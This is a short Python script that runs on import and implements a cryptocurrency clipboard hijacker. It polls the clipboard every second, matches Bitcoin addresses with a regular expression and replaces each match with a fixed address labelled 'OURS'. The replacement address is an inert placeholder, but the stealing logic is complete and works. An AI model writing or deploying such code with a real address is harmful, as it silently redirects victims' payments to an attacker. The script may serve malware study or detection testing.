# place: module
import re
import time
import pyperclip

PATTERN = "^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"
OURS = "bc1qinertinertinertinertinertinertinert0"


def look():
    text = pyperclip.paste()
    if re.match(PATTERN, text) and text != OURS:
        pyperclip.copy(OURS)


def main():
    while True:
        look()
        time.sleep(1)


main()
